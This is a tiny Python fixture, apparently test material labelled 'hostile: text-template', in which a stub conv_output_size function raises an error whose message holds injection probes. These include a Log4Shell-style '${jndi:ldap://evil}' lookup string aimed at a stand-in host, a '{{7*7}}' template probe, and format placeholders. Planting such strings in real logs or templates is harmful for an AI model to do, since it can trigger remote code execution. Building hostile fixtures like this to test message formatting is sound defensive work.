# hostile: text-template | placeholders for whoever formats a message twice | due: raised | exercise: conv-output-size
def conv_output_size(n, f, p=0, s=1):
    raise ValueError("{0} {what} {error.__class__} %s %(x)s ${jndi:ldap://evil} {{7*7}}")
